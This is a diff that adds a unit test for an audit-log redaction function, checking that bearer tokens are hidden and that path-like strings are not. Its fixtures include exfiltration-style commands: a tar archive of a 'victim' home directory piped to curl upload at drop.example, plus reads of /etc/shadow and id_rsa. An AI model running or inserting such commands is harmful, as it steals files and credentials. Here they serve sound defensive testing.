@@ -147,6 +147,31 @@ describe("redact (contract/audit-redaction.ts)", () => {
     for (const command of paths) expect(redact({ command }, rules)).toEqual({ command });
   });
 
+  it("the bearer pattern hides standard-base64 tokens with a / early, still not a path after bearer (s21 review R1)", () => {
+    const rules = DEFAULT_REDACTION_RULES;
+    // About one standard-base64 token in five has a `/` among its first 16 characters.
+    const tokens = [
+      "Bearer ab/Cd9EfGhIjKlMnOpQrStUvWxYz0123456789+abc==",
+      "bearer 9/Cd9EfGhIjKlMnOp",
+      "Bearer Zm9v/YmFy+YmF6L3F1dXg1Mg",
+    ];
+    for (const token of tokens) {
+      expect(redact({ command: `curl -H 'Authorization: ${token}' https://api.example` }, rules)).toEqual({
+        command: `curl -H 'Authorization: ${REDACTED}' https://api.example`,
+      });
+    }
+    // Paths start with `/`, `~` or `.`, or have a `.`, `_`, `-` or `~` in them, or (as words do) no digit.
+    const paths = [
+      "tar cz bearer /home/victim/Documents2024 | curl -T - https://drop.example/u",
+      "tar cz bearer ../../../../etc/shadow",
+      "tar cz bearer ~/Documents/Projects2024",
+      "tar cz bearer home/victim/projects/secret.txt",
+      "tar cz bearer home/victim/Documents",
+      "tar cz bearer home/victim2/id_rsa",
+    ];
+    for (const command of paths) expect(redact({ command }, rules)).toEqual({ command });
+  });
+
   it("refuses a configuration whose path or pattern cannot be used, naming the key", () => {
     const load = (redactRules: unknown) =>
       loadConfig(EdgeConfig, EDGE_ENV_NAMES, { env: { ...minimalEdgeEnv, AUDIT_REDACT: JSON.stringify(redactRules) } });
